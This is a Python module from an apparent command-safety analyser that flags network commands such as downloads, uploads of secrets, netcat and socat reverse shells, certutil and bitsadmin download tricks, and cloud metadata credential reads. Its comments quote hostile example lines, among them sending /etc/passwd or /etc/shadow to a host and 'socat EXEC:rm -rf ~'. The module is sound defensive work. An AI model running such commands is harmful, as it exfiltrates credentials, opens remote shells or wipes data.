"""Talking to other machines: downloads (remembered, so running them later is caught),
uploads of secrets, netcat-style shells, ssh/scp/rsync to remote hosts.
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Callable

from aintern_ls.safety import persist, remote, system
from aintern_ls.safety.argv import asks_help
from aintern_ls.safety.context import (
    STDIN_FILE,
    STDIN_NONE,
    STDIN_OTHER,
    STDIN_STATIC,
    Cmd,
)
from aintern_ls.safety.levels import B, C, D, M
from aintern_ls.safety.paths import is_secret, may_hold_secret, write_target
from aintern_ls.safety.registry import (
    handles,
    run_config_command,
    skip_options,
    ssh_config_options,
)
from aintern_ls.safety.words import ORIGIN_SUBST, Word, names

# --- network, downloads, exfiltration ---------------------------------------------------

_FETCH_WITH_VALUE = frozenset(
    names(
        """
        -o -O --output -H --header -d --data -X --request -u --user -A --user-agent -e -b -c -F
        --form -T --upload-file --data-binary --data-raw --data-urlencode -x --proxy -m
        --data-ascii --json --form-string
        --max-time --connect-timeout -w --write-out -r --retry -P --output-document --post-file
        --directory-prefix --cacert --cert --key -K --config --resolve --limit-rate
        """
    )
)


# Options of curl/wget/Invoke-WebRequest whose value is sent: a file named by `@file` (or the
# option itself names a file), literal text otherwise. `--opt=value` is the same option.
_UPLOAD_OPTIONS = frozenset(
    names(
        """
        -T --upload-file -F --form -d --data --data-ascii --data-binary --post-file --data-raw
        -InFile -infile --data-urlencode --form-string --body-file --post-data -Body -body --json
        """
    )
)
_UPLOAD_FILE_OPTIONS = frozenset(names("-T --upload-file --post-file --body-file -InFile -infile"))
_UPLOAD_LITERAL_OPTIONS = frozenset(names("--data-raw --form-string --post-data -Body -body"))


# Instance metadata endpoints that hand out the machine's cloud credentials.
_METADATA_CREDS = re.compile(
    r"(169\.254\.169\.254|metadata\.google\.internal|\[?fd00:ec2::254\]?|169\.254\.170\.2)"
    r"\S*(security-credentials|service-accounts|identity|token|credentials)",
    re.I,
)


def _trust_root_deleted(cmd: Cmd) -> bool:
    """(n14w) `certutil [-f] [-enterprise] -delstore Root|AuthRoot|CA CERTID`: a certificate
    the whole machine trusts taken out (critical: one certificate, session 16 convention);
    `-user` works on the caller's own store (a scoped delete)."""
    low = [w.text.lower() for w in cmd.args]
    flags = {a[1:] for a in low if a[:1] in "-/"}
    if "delstore" not in flags or "?" in flags or "help" in flags:
        return False  # `certutil -delstore -?`: the verb's help prints, nothing is deleted
    from aintern_ls.safety.winpaths import ONE_TRUSTED_CERT, TRUST_STORES

    i = next(k for k, a in enumerate(low) if a[:1] in "-/" and a[1:] == "delstore")
    store = next((a.strip("'\"") for a in low[i + 1 :] if a[:1] not in "-/"), "")
    if not store:
        return False  # no store named: certutil refuses before it deletes anything
    if "user" in flags or store not in TRUST_STORES:
        cmd.add(D, "delete", "certutil deletes a certificate", cmd.args[i])
        return True
    ids = [w for w in cmd.args[i + 1 :] if w.text[:1] not in "-/"][1:2]
    if ids and ids[0].dynamic and cmd.scope.family != "bash":
        # (n17w) the id of each certificate a loop walks: `gci Cert:\LocalMachine\Root | % {
        # certutil -delstore Root $_.Thumbprint }`, cmd's `for /f … ('certutil -store Root …')
        # do certutil -delstore Root %i`: every certificate unless something picks some
        from aintern_ls.safety.winpaths import looped_trust_listing, piped_trust_listing

        piped = piped_trust_listing(cmd) if cmd.scope.family == "powershell" else None
        looped = looped_trust_listing(cmd) if cmd.scope.family == "cmd" else None
        every = (piped is not None and piped[1]) or (
            looped is not None and looped.lower() == store and "$" not in ids[0].text
        )
        if every:
            cmd.add(
                B,
                "cert-store-wipe",
                f"certutil deletes every certificate of a store the whole machine trusts"
                f" (LocalMachine\\{store}), one by one",
                ids[0],
            )
            return True
    if ids and ("*" in ids[0].text or "?" in ids[0].text or ids[0].glob):
        # (n17w, session 17 convention) a wildcard id matches every certificate: the store
        # emptied
        cmd.add(
            B,
            "cert-store-wipe",
            f"certutil empties a store the whole machine trusts (LocalMachine\\{store}):"
            " TLS, signed drivers and updates stop verifying",
            ids[0],
        )
        return True
    # one certificate (a CertId is one serial, hash or index; there is no "all"): critical
    # (session 16 convention: the whole store emptied is blocked, one certificate is not)
    cmd.add(
        C,
        ONE_TRUSTED_CERT,
        f"certutil removes a certificate the whole machine trusts (LocalMachine\\{store})",
        cmd.args[i],
    )
    return True


@handles(
    *names(
        """
    curl wget fetch http https xh aria2c lwp-request lynx curlie
    certutil bitsadmin
    """
    )
)
def _fetch(cmd: Cmd) -> None:
    n = cmd.name
    if n == "certutil" and any(
        w.text.lower().lstrip("-/") in ("decode", "decodehex", "encode", "encodehex")
        for w in cmd.args
    ):
        files = [w for w in cmd.args if not w.text.startswith(("-", "/"))]
        if any(
            w.dynamic or is_secret(w.text) or re.match(r"(?i)\A(?:\\\\|//|https?://)", w.text)
            for w in files[:1]
        ):
            # a key or credentials file staged for sending, or a file from elsewhere
            cmd.add(
                C,
                "lolbin-decode",
                "certutil encodes or decodes a credentials file or a file from elsewhere",
            )
            return
        cmd.add(M, "lolbin-decode", "certutil encodes or decodes a local file")
        if len(files) > 1 and not files[1].dynamic:
            # what it wrote was only text the analyser saw encoded: running it is opaque
            base = files[1].text.replace("\\", "/").rsplit("/", 1)[-1]
            cmd.scope.unseen[base] = "was decoded by certutil"
            cmd.scope.written.pop(base, None)
        return
    if n == "certutil" and _trust_root_deleted(cmd):
        return
    if (
        n == "certutil"
        and cmd.args
        and (
            (
                cmd.args[0].text.lower().lstrip("-/")
                in ("hashfile", "dump", "store", "viewstore", "?", "verify", "dumppfx")
                and not any(w.text.lower().lstrip("-/") == "urlfetch" for w in cmd.args)
            )
            # `-delstore -?`: the verb's help (w22: standalone, unquoted, no option's value)
            or asks_help(n, cmd.args, cmd.scope.source, cmd.scope.family)
        )
        and not any("://" in w.text for w in cmd.args)
    ):
        return  # certutil -hashfile / -dump only read; a verb's help only prints
    if n == "certutil" and not any(
        w.text.lower().startswith(("-urlcache", "/urlcache", "-verifyctl", "/verifyctl"))
        for w in cmd.args
    ):
        cmd.add(M, "unknown-command", "certutil changes certificates or decodes files")
        return
    if (
        n == "bitsadmin"
        and re.fullmatch(
            r"(?i)[/-](list|info|getstate|getprogress|monitor|util|help|\?)",
            cmd.args[0].text if cmd.args else "/help",
        )
        and not any(
            re.search(r"(?i)^[/-](transfer|addfile|setnotify|download)", w.text) for w in cmd.args
        )
    ):
        return  # bitsadmin /list, /info JOB: show jobs only
    cmd.info.network_fetch = True
    askpass = next((w for w in cmd.args if w.text.startswith("--use-askpass=")), None)
    if n == "wget" and askpass is not None:
        # wget runs the askpass program to get credentials: a program chosen on the line.
        prog = Word(askpass.text.split("=", 1)[1], askpass.start, askpass.end, askpass.dynamic)
        run_config_command(cmd, prog, "wget --use-askpass")
        cmd.add(C, "config-exec", "wget --use-askpass runs the program it names", askpass)
    if n == "bitsadmin" and re.search(r"/setnotifycmdline", " ".join(cmd.texts()), re.I):
        # `/SetNotifyCmdLine JOB PROGRAM "ARGS"`: the line it runs is judged (safety-m7).
        texts = [t.lower() for t in cmd.texts()]
        k = texts.index("/setnotifycmdline") if "/setnotifycmdline" in texts else -1
        run = cmd.args[k + 2 : k + 4] if k >= 0 else []
        if run and not any(w.dynamic for w in run) and run[0].text.upper() != "NULL":
            line = " ".join(w.text for w in run)
            cmd.scope.include(cmd.scope.nested(line, "cmd", run[0]))
        cmd.add(C, "lolbin-exec", "bitsadmin runs a program when a download job finishes")
        return
    if n in ("certutil", "bitsadmin") and re.search(
        r"(urlcache|verifyctl|/transfer|/addfile|/download)", " ".join(cmd.texts()), re.I
    ):
        cmd.add(
            C,
            "lolbin-download",
            f"{n} downloads a file with a Windows system tool (a common way to fetch malware)",
        )
        return
    if (
        n == "curl"
        and cmd.argv.dashed
        and ("--config" in cmd.argv.joined_low or cmd.short("K"))
        and _curl_config_known(cmd)
    ):
        return
    uploads: list[tuple[str, bool]] = []
    for i, w in enumerate(cmd.args):
        t = w.text
        word = w
        # `--form VALUE` and `--form=VALUE` are one option in either spelling (gen12)
        opt, eq, attached = t.partition("=") if t.startswith("--") else (t, "", "")
        if opt in _UPLOAD_OPTIONS and (eq or i + 1 < len(cmd.args)):
            if not eq:
                word = cmd.args[i + 1]
            val = attached if eq else word.text
            if opt in _UPLOAD_FILE_OPTIONS:
                val = "@" + val
            elif opt in _UPLOAD_LITERAL_OPTIONS:
                # `--data-raw @x`, `--form-string a=@b`, wget `--post-data=@x`: the text
                # itself is sent, an `@` in it names no file (gen12)
                val = "literal"
            elif opt == "--data-urlencode":
                # only `@file` and `name@file` read a file; `name=content` is literal text
                at = re.match(r"\A[\w.-]*@", val)
                val = "@" + val.split("@", 1)[1] if at else "literal"
            elif opt in ("-F", "--form") and "=" not in val and re.search(r"[@<]", val):
                # `-F *@*.zip`: a form part that names a file with no field name
                val = val[re.search(r"[@<]", val).start() :]  # type: ignore[union-attr]
        elif re.fullmatch(r"-[dFT].+", t):
            val = t[2:] if t[1] != "T" else "@" + t[2:]
        elif (
            n in ("curl", "curlie")
            and re.fullmatch(r"-[a-zA-Z]*[dFT]", t)
            and i + 1 < len(cmd.args)
        ):
            # bundled short options ending in one that takes a value: `-sF "f=@…"`, `-sT FILE`
            word = cmd.args[i + 1]
            val = word.text if t[-1] != "T" else "@" + word.text
        else:
            continue
        uploads.append((val.split("=", 1)[-1] if not val.startswith("@") else val, word.dynamic))
    if n in ("http", "https", "xh", "xhs", "curlie"):
        # HTTPie: `@file` is the body, `field@file` / `field=@file` embed files (and
        # curlie's, which takes curl's options and HTTPie's items, h20).
        for w in cmd.args:
            if re.match(r"\A(?:@|[\w.-]+=?@)(?!\S*://)(\S+)", w.text):
                uploads.append(("@" + w.text.split("@", 1)[1], w.dynamic))
        if cmd.stdin.kind in ("file", "other") or cmd.stdin.secret:
            uploads.append(("@-", False))
    if (
        n == "curl"
        and cmd.stdin.kind in (STDIN_FILE, STDIN_OTHER)
        and any(re.match(r"(?i)\A(?:telnet|tftp)://", w.text) for w in cmd.args)
    ):
        # `curl telnet://h:4444 < /etc/passwd`: curl's telnet sends its standard input to
        # the peer (GTFOBins "file upload", safety-m9)
        uploads.append(("@-", False))
    sent_files = [v.lstrip("@<") for v, _ in uploads if v.startswith(("@", "<"))]
    if cmd.stdin.kind == STDIN_STATIC and not cmd.stdin.secret:
        # `@-` with literal text on stdin (a heredoc, `echo hello |`) sends that text: data
        # written in the block, not a file's contents or a command's output.
        sent_files = [u for u in sent_files if u != "-"]
    output = cmd.option_value("-o", "--output", "-O", "--output-document", "-OutFile")
    if any(
        (w.dynamic and w.origin not in ("", "variable") and "://" in w.text)
        or ("$(" in w.text and (not w.text.startswith("-") or "=" in w.text))
        or (w.dynamic and _substituted_url(cmd.scope.source, w, cmd.scope.family))
        for w in cmd.args
        # (`curl "https://h/$(echo v2)"`: a substitution whose text is literal, known here,
        # sends nothing read from disk or a command: data written in the block) (n13u)
        if w is not output and not (w.dynamic and w.origin in ("static", "decoded"))
    ):
        cmd.add(C, "exfiltration", f"{n} puts a command's output in the address it calls")
        return
    if any(is_secret(u) for u in sent_files) or (
        cmd.stdin.secret and any(u in ("-", "") for u in sent_files)
    ):
        cmd.add(C, "exfiltration", f"{n} uploads private keys or credentials")
        return
    if sent_files or any(dynamic for _, dynamic in uploads):
        cmd.add(
            C,
            "exfiltration",
            f"{n} sends a file or a command's output to the network",
        )
        return
    out = cmd.option_value("-o", "--output", "-O", "--output-document", "-OutFile", "-outfile")
    urls = [w for w in cmd.operands(_FETCH_WITH_VALUE) if "://" in w.text or "." in w.text]
    if any(_METADATA_CREDS.search(w.text) for w in cmd.args):
        cmd.add(C, "credential-dump", f"{n} reads cloud credentials from the instance metadata")
        return
    if out is not None and out.text not in ("-", "/dev/stdout"):
        from aintern_ls.safety.paths import write_target

        saved = write_target(out.text, cmd.scope.cwds)
        if saved is not None:
            # `curl -sSo /etc/cron.d/x URL` (a bundled -o): the download lands there.
            cmd.add(saved.level, saved.rule, f"{n} saves the download over {saved.what}", out)
        elif persist.WINDOWS_WRITE_TARGET and (win := persist.WINDOWS_WRITE_TARGET[0](out.text)):
            # (w22) `iwr URL -OutFile $env:LOCALAPPDATA\Microsoft\WindowsApps\python.exe`,
            # `curl -o %windir%\System32\x.dll`: the download lands in a Windows door
            cmd.add(win[0], win[1], f"{n} saves the download as {win[2]}", out)
        cmd.scope.downloaded.add(out.text.rsplit("/", 1)[-1].rsplit("\\", 1)[-1])
        cmd.info.network_fetch = False
    elif n in ("wget", "aria2c", "fetch") and not cmd.has("-O-", "-qO-", "-qO", "-"):
        for u in urls:
            base = u.text.split("?", 1)[0].rstrip("/").rsplit("/", 1)[-1]
            if base:
                cmd.scope.downloaded.add(base)
        cmd.info.network_fetch = cmd.has("-O-", "-qO-") or (
            out is not None and out.text in ("-", "/dev/stdout")
        )
    elif n == "curl" and (cmd.short("O") or cmd.long("--remote-name")):
        for u in urls:
            cmd.scope.downloaded.add(u.text.split("?", 1)[0].rstrip("/").rsplit("/", 1)[-1])
        cmd.info.network_fetch = False
    method = _http_method(cmd)
    if method is not None and method.text.upper().removeprefix("-X") == "DELETE":
        http_delete(cmd, method)
    cmd.add(M, "network", f"{n} talks to the network")


def _curlrc_option(line: str) -> tuple[str, str] | None:
    """(h20) One line of a curl config file: `name = value`, `name: value`, `--name value`
    or a bare `name`, as (name, value); None for comments and blank lines (a scan: no
    regex with adjacent whitespace runs)."""
    text = line.strip()
    if not text or text.startswith("#"):
        return None
    text = text.lstrip("-")
    end = 0
    while end < len(text) and end < 48 and (text[end].isalnum() or text[end] in "-_"):
        end += 1
    if end == 0 or not text[0].isalpha():
        return None
    rest = text[end:].lstrip()
    if rest[:1] in ("=", ":"):
        rest = rest[1:].lstrip()
    return text[:end], rest


def _curl_config_known(cmd: Cmd) -> bool:
    """(h20) `curl -K <(echo 'url=x.example'; echo 'data=@/etc/passwd')`, `curl -K - <<<
    …`: a config file whose text is known here is read as the options it sets (`data`,
    `upload-file`, `form` …), judged with the rest of the line. True if judged so."""
    for i, w in enumerate(cmd.args):
        t = w.text
        if (t == "--config" or re.fullmatch(r"-[a-zA-Z]{0,8}K", t)) and i + 1 < len(cmd.args):
            value = cmd.args[i + 1]
            rest = [*cmd.args[:i], *cmd.args[i + 2 :]]
        elif t.startswith("--config="):
            value = Word(t[len("--config=") :], w.start, w.end, w.dynamic, w.glob, w.origin)
            rest = [*cmd.args[:i], *cmd.args[i + 1 :]]
        else:
            continue
        if value.text == "-" and cmd.stdin.kind == STDIN_STATIC:
            text = cmd.stdin.text
        elif value.dynamic and value.origin in ("static", "decoded"):
            text = value.text
        else:
            return False
        extra: list[Word] = []
        for line in text.splitlines()[:200]:
            option = _curlrc_option(line)
            if option is None:
                continue
            key, arg = option[0].lower(), option[1].strip()
            if len(arg) > 1 and arg[0] == arg[-1] and arg[0] in "\"'":
                arg = arg[1:-1]
            if key in ("config", "k"):
                return False  # a config naming another config: not followed here
            extra.append(Word(f"--{key}", value.start, value.end))
            if arg:
                extra.append(Word(arg, value.start, value.end))
        cmd.judge([cmd.words[0], *rest, *extra])
        return True
    return False


def _http_method(cmd: Cmd) -> Word | None:
    """The HTTP method a client is told to use (`curl -X M`, `-XM`, `--request M`,
    `wget --method=M`, HTTPie's `http M URL`)."""
    if cmd.name in ("http", "https", "xh", "xhs"):
        ops = [w for w in cmd.args if not w.text.startswith("-")]
        if ops and re.fullmatch(r"[A-Za-z]+", ops[0].text) and len(ops) > 1:
            return ops[0]
        return None
    for w in cmd.args:
        if re.fullmatch(r"-X[A-Za-z]+", w.text):
            return w
    return cmd.option_value("-X", "--request", "--method")


def http_delete(cmd: Cmd, where: Word) -> None:
    """An HTTP DELETE removes data on the server: scoped deletion (dangerous), like a cloud
    CLI's delete; `_all` or a wildcard index deletes every matching index."""
    target = next((w.text for w in cmd.args if "://" in w.text or ":" in w.text[:30]), "")
    if re.search(r"/(?:_all|\*)(?:[/?]|$)|/[^/?]*\*", target):
        cmd.add(D, "http-delete", f"{cmd.name} deletes every matching resource over HTTP", where)
    else:
        cmd.add(D, "http-delete", f"{cmd.name} sends an HTTP DELETE (removes data)", where)


@handles("nc", "ncat", "netcat", "socat", "telnet", "openssl")
def _netcat(cmd: Cmd) -> None:
    text = " ".join(cmd.texts())
    if cmd.name == "openssl":
        for i, w in enumerate(cmd.args[:-1]):
            nxt = cmd.args[i + 1]
            if w.text in ("-out", "-keyout", "-outfile") and not nxt.dynamic:
                t = write_target(nxt.text, cmd.scope.cwds)
                if t is not None:
                    cmd.add(t.level, t.rule, f"openssl {w.text} writes over {t.what}", nxt)
                    return
        if "s_client" in text and (cmd.stdin.secret or cmd.stdin.kind in (STDIN_FILE,)):
            cmd.add(C, "exfiltration", "openssl s_client sends a file to another machine")
        elif "s_client" in text and cmd.stdin.kind == STDIN_OTHER:
            cmd.add(C, "exfiltration", "openssl s_client sends a command's output to the network")
        elif "s_client" in text and cmd.stdin.kind != STDIN_NONE:
            cmd.add(M, "network", "openssl s_client sends data over the network")
        elif "s_client" in text or "s_server" in text:
            cmd.add(M, "network", "openssl talks to the network")
        elif cmd.args and cmd.args[0].text in names(
            """
            x509 version dgst rand list verify ciphers asn1parse crl errstr speed
            """
        ):
            if cmd.option_value("-out") is not None:
                cmd.add(M, "write", "openssl writes a file")
            return
        else:
            cmd.add(M, "write", "openssl writes keys or files")
        return
    if cmd.name == "socat":
        # `socat - OPEN:/etc/sudoers,creat,trunc`: an address that creates or opens a file
        # for writing writes it (truncating it or appending to it).
        for w in cmd.args:
            m = re.match(r"(?i)\A(?:open|create|creat|gopen):([^,]+)((?:,[^,]*)*)\Z", w.text)
            if m is None or w.dynamic:
                continue
            opts = {o.strip().lower().split("=", 1)[0] for o in m.group(2).split(",")}
            append = "append" in opts and "trunc" not in opts
            if w.text.lower().startswith("open") and not opts & {"creat", "trunc", "append"}:
                continue  # OPEN of an existing file without write options: read or write
            t = write_target(m.group(1), cmd.scope.cwds, append=append)
            if t is not None:
                verb = "appends to" if append else "overwrites"
                cmd.add(t.level, t.rule, f"socat {verb} {t.what}", w)
                return
    if cmd.name == "socat" and _socat_sends_file(cmd):
        cmd.add(C, "exfiltration", "socat sends a file to the network")
        return
    if cmd.has("-e", "-c", "--exec", "--sh-exec", "--lua-exec") or re.search(
        r"\b(exec|system):", text, re.I
    ):
        cmd.add(C, "reverse-shell", f"{cmd.name} connects a shell to the network")
        _netcat_program(cmd)
        return
    if cmd.stdin.secret:
        cmd.add(C, "exfiltration", f"sends private keys or credentials with {cmd.name}")
        return
    if cmd.stdin.kind in (STDIN_FILE, STDIN_OTHER) and not cmd.short("l"):
        cmd.add(C, "exfiltration", f"sends a file or a command's output with {cmd.name}")
        return
    cmd.info.network_fetch = not cmd.short("l")
    cmd.add(M, "network", f"{cmd.name} opens a network connection")


_SOCAT_EXEC = re.compile(r"\A(?:exec|system):(.*)", re.I | re.S)


def _netcat_program(cmd: Cmd) -> None:
    """The program a netcat runs for its peer (`ncat -c CMD`, `nc -e PROG`, socat
    `EXEC:CMD`/`SYSTEM:CMD`) is also run here: when it is destructive it is judged as such
    (`socat - EXEC:'rm -rf ~'` wipes home before anyone connects to anything)."""
    values: list[Word] = []
    for i, w in enumerate(cmd.args):
        m = _SOCAT_EXEC.match(w.text) if cmd.name == "socat" else None
        if m is not None:
            values.append(Word(m.group(1).split(",", 1)[0], w.start, w.end, w.dynamic))
        elif w.text in ("-e", "-c", "--exec", "--sh-exec") and i + 1 < len(cmd.args):
            values.append(cmd.args[i + 1])
    for v in values:
        if v.dynamic or not v.text.strip():
            continue
        found = cmd.scope.nested(v.text, "bash", v, -1)
        if max((f.level for f in found), default=M) >= D:
            cmd.scope.include(found)


_SOCAT_FILE = re.compile(r"\A(?:file|open|gopen):", re.I)
_SOCAT_NET = re.compile(r"\A(?:tcp|tcp4|tcp6|udp|udp4|udp6|ssl|openssl|sctp)[\w-]*:", re.I)


def _socat_sends_file(cmd: Cmd) -> bool:
    """`socat -u FILE:/etc/passwd TCP:host:80`: a file address feeding a network address."""
    addrs = [w.text for w in cmd.args if not w.text.startswith("-") or w.text == "-"]
    if len(addrs) < 2:
        return False
    first, second = addrs[0], addrs[1]
    if cmd.has("-U"):
        first, second = second, first
    return bool(_SOCAT_FILE.match(first) and _SOCAT_NET.match(second))


# An empty folder used as a sync source (`/srv/empty`, `/tmp/blank/`): it sends nothing.
_EMPTY_FOLDER = re.compile(r"(?i)\A(?:empty|blank|null|nothing|void)[\w.-]*\Z")


def sends_local(cmd: Cmd, sent: Word | None, how: str) -> None:
    """A local file or folder sent to another machine (a host, a cloud bucket, a transfer
    relay): critical, whatever the file, because what is sent is read from disk (DESIGN.md
    section 5, the session-13 convention in HELPERS.md). The span runs to the word sent.
    Downloads and remote-to-local copies never call this: they stay moderate."""
    what = sent.text if sent is not None and sent.text else "local files"
    leaf = re.split(r"[\\/]", what.rstrip("/\\"))[-1]
    if (
        _EMPTY_FOLDER.match(leaf)
        and ("." not in leaf or what.endswith(("/", "\\")))
        and (
            "sync" in how or "mirror" in how or any(w.text.startswith("--delete") for w in cmd.args)
        )
    ):
        # `rclone sync /srv/empty remote:x` sends nothing: the delete rules judge it. Only a
        # folder used as a deleting sync's source; a file named `empty.db` sent anywhere
        # is an upload like any other (review 11, finding 12)
        return
    cmd.add(C, "upload", f"{how} sends {what} from this machine to another one", sent)


def _remote(text: str) -> bool:
    # (a bracketed IPv6 host: `[::1]:/srv`, `u@[fe80::1]:/x`; review 11, finding 14)
    return bool(
        re.match(r"^([\w.-]+@)?(?:[\w.-]+|\[[0-9A-Fa-f:.%\w]+\]):(?!//)|^\w+://", text)
    ) and not re.match(r"^[a-zA-Z]:[\\/]", text)


def sensitive_source(text: str) -> bool:
    """A home directory, a dotfile in it, or a system directory: what an attacker wants."""
    return bool(
        is_secret(text)
        or re.match(r"^(~|\$HOME|/home/[^/]+|/root|/Users/[^/]+)/?(\.[^/]*)?/?$", text)
        or re.match(r"^(~|/root|/home/[^/]+)/\.", text)
        or re.match(r"^/(etc|var/log|root)(/|$)", text)
        or _PERSONAL_FOLDER.match(text)
    )


# The folders of a home that hold a person's own files (XDG user dirs, macOS, Windows):
# sending them away is what data-theft tools do; a project folder is not among them.
_PERSONAL_FOLDER = re.compile(
    r"^(~|\$HOME|\$\{HOME\}|/home/[^/]+|/root|/Users/[^/]+|[a-z]:[\\/]Users[\\/][^\\/]+"
    r"|%USERPROFILE%|\$env:USERPROFILE)[\\/](Documents|Desktop|Downloads|Pictures|Photos|Movies"
    r"|Music|Videos|Library|Mail|OneDrive[^/\\]*|iCloud Drive)([\\/]|$)",
    re.I,
)


def _ftp_script_shell(cmd: Cmd, scripts: list[str]) -> None:
    """(safety-cat5) An ftp/sftp batch runs its `!CMD` lines through the local shell: in the
    text piped in and in a script file this text wrote (`ftp -s:cmds.txt`, `sftp -b f`)."""
    args = cmd.args
    for i, w in enumerate(args):
        low = w.text.lower()
        path = None
        if cmd.name == "ftp" and low.startswith(("-s:", "/s:")) and cmd.scope.family == "bash":
            path = w.text[3:]  # (cmd and PowerShell: read above with the upload checks)
        elif cmd.name in ("sftp", "psftp") and low == "-b" and i + 1 < len(args):
            path = args[i + 1].text
        if path:
            written = cmd.scope.written.get(path.replace("\\", "/").rsplit("/", 1)[-1])
            if written is not None:
                scripts.append(written[0])
    family = "bash" if cmd.scope.family == "bash" else "cmd"
    for text in scripts:
        for m in re.finditer(r"(?m)^[ \t]*!(.+)$", text):
            line = m.group(1).strip()
            where = Word(line, cmd.start, cmd.end)
            cmd.add(M, "runs-program", f"{cmd.name}'s script runs a local command")
            cmd.scope.include(cmd.scope.nested(line, family, where, -1))


# A transfer client's own command language sending a local path: `put F`, `mput F`,
# `reput`/`append`/`send F`, lftp's `mirror -R DIR` (reverse: local to remote), smbclient's
# `put F`, WinSCP's `put F` (safety-m8: every sending verb, options before the path).
def _dry_line(m: re.Match[str]) -> bool:
    """Whether the batch line of an upload match is a dry run (`mirror -R --dry-run dist
    /www`: lftp only lists what it would send; session-13 dry-run convention)."""
    text = m.string
    end = min(
        (i for i in (text.find("\n", m.end()), text.find(";", m.end())) if i >= 0),
        default=len(text),
    )
    return "--dry-run" in text[m.start() : end]


_SCRIPT_UPLOAD = re.compile(
    r"(?:^|[\n;&])\s*(?:m?put|upload|send|reput|append|mirror\s+(?:-[\w-]{1,40}\s+){0,8}?"
    r"(?:-R|--reverse)(?=\s))\s+(?:-[\w-]{1,40}(?:=\S{1,200})?\s+){0,8}(\S+)",
    re.I,
)


# Transfer clients that read a session of commands (`put`, `get`, `!cmd`) from a batch.
_BATCH_CLIENTS = frozenset(names("lftp smbclient ftp sftp psftp ncftp tnftp"))


def _batch_on_stdin(cmd: Cmd) -> bool:
    """Whether the client reads its commands from stdin (no command given otherwise)."""
    return not any(
        w.text in ("-c", "--command", "-e", "-b", "-f") or w.text.lower().startswith(("-s:", "/s:"))
        for w in cmd.args
    )


@handles(
    "scp",
    "pscp",
    "sftp",
    "psftp",
    "rclone",
    "ftp",
    "lftp",
    "smbclient",
    "ncftp",
    "tnftp",
    "ncftpput",
    "croc",
    "magic-wormhole",
    "wormhole",
)
def _copy_remote(cmd: Cmd) -> None:
    system.repl_tool(cmd)  # lftp -c '!cmd', smbclient -c '!cmd'
    scripts = [cmd.stdin.text] if cmd.stdin.kind == STDIN_STATIC else []
    if cmd.name in _BATCH_CLIENTS and cmd.stdin.kind == STDIN_FILE and _batch_on_stdin(cmd):
        # `sftp h < batch.txt`, `ftp -n h < cmds`, `smbclient //s/x < cmds`: the session's
        # commands come from a file nobody here read (`put`, `!cmd`): opaque, as `sftp -b
        # FILE` is (n13u)
        cmd.add(C, "config-exec", f"{cmd.name} runs commands from a file the analyser cannot read")
        return
    if cmd.name == "ncftpput" or (cmd.name == "tnftp" and cmd.has("-u")):
        # `ncftpput HOST DIR FILES…`, `tnftp -u URL FILES…`: uploads local files (n13u)
        ops = [
            w
            for w in cmd.operands(frozenset(names("-u -p -P -f -j -t -m -y -W -X -Y")))
            if "://" not in w.text
        ]
        local = (
            ops[2:]
            if cmd.name == "ncftpput" and not cmd.has("-f")
            else ops[1:]
            if cmd.name == "ncftpput"
            else ops
        )
        if local:
            if any(sensitive_source(w.text) or is_secret(w.text) for w in local):
                cmd.add(C, "exfiltration", f"{cmd.name} uploads home or system files")
            else:
                sends_local(cmd, local[0], cmd.name)
        return
    if cmd.name in _BATCH_CLIENTS:
        # the batch given on the command line: `smbclient … -c 'put /etc/shadow'`
        scripts += [
            cmd.args[i + 1].text
            for i, w in enumerate(cmd.args[:-1])
            if w.text in ("-c", "--command", "-e")
        ]
    if cmd.name == "ftp" and cmd.scope.family != "bash":
        # Windows `ftp -s:FILE`: the session runs a command file (`put`, `!cmd`) nobody read
        script = next((w for w in cmd.args if w.text.lower().startswith(("-s:", "/s:"))), None)
        if script is not None:
            base = script.text[3:].strip("\"'").replace("\\", "/").rsplit("/", 1)[-1]
            entry = cmd.scope.written.get(base)
            known = entry[0] if entry is not None else None
            if known is None:
                # LOLBAS ftp.exe: the file's `!CMD` lines run commands, `put` sends files
                cmd.add(C, "config-exec", "ftp runs a command file the analyser cannot read")
                return
            if known is not None:
                scripts.append(known)
    if cmd.name in ("sftp", "psftp") and _sftp_batch_unseen(cmd):
        return
    if cmd.name == "lftp":
        # `lftp -f FILE`: the session runs a command file (`put`, `!cmd`, `mirror -R`); one
        # the analyser cannot read is opaque, as `sftp -b FILE` is (n13u, round 13)
        for i, w in enumerate(cmd.args):
            t = w.text
            path = cmd.args[i + 1] if t == "-f" and i + 1 < len(cmd.args) else None
            if path is None:
                continue
            entry = cmd.scope.written.get(path.text.rsplit("/", 1)[-1])
            if entry is not None and not path.dynamic:
                scripts.append(entry[0])
            elif path.dynamic and path.origin in ("static", "decoded"):
                scripts.append(path.text)  # `lftp -f <(echo 'put /etc/shadow')`
            elif path.text not in ("/dev/stdin", "-"):
                cmd.add(C, "config-exec", f"lftp runs the command file {path.text} unread")
                return
    if cmd.name in _BATCH_CLIENTS:
        _ftp_script_shell(cmd, scripts)
    sent = [m for text in scripts for m in _SCRIPT_UPLOAD.finditer(text) if not _dry_line(m)]
    if any(
        sensitive_source(m.group(1).strip("'\"")) or is_secret(m.group(1).strip("'\""))
        for m in sent
    ):
        cmd.add(C, "exfiltration", f"{cmd.name} uploads home or system files (its script)")
        return
    sent_in_script = sent[0].group(1) if sent else None
    if sent_in_script is not None and cmd.name in _BATCH_CLIENTS:
        # `sftp h <<< 'put notes.txt'`, `lftp -e 'mirror -R dist /www'`: the batch sends it
        sends_local(cmd, Word(sent_in_script, cmd.start, cmd.end), f"{cmd.name}'s batch")
    ops = cmd.operands(frozenset({"-P", "-i", "-o", "-F", "-J", "-c", "-l", "-S", "-pw"}))
    if cmd.name == "rclone":
        # `rclone copy --max-age 2y SRC DST`: a long option's value is not an operand (rclone's
        # long options take a value unless it looks like a path or remote)
        ops = [
            w
            for i, w in enumerate(cmd.args)
            if not w.text.startswith("-")
            and not (
                i
                and cmd.args[i - 1].text.startswith("--")
                and "=" not in cmd.args[i - 1].text
                and not re.search(r"[/\\:]", w.text)
            )
        ]
    if (
        cmd.name == "rclone"
        and len(ops) >= 3
        and ops[0].text == "serve"
        and not _remote(ops[2].text)
    ):
        # `rclone serve http / --addr :8080`: the local folder is published (h17)
        serve_folder(cmd, ops[2], not local_only(cmd))
        return
    rclone_delete = (
        cmd.name == "rclone"
        and bool(ops)
        and ops[0].text in ("purge", "delete", "deletefile", "rmdir", "rmdirs")
    )
    if (any(is_secret(w.text) for w in ops) and len(ops) >= 2 and not rclone_delete) or (
        cmd.name in ("croc", "wormhole", "magic-wormhole") and any(is_secret(w.text) for w in ops)
    ):
        cmd.add(C, "exfiltration", "copies private keys or credentials to another machine")
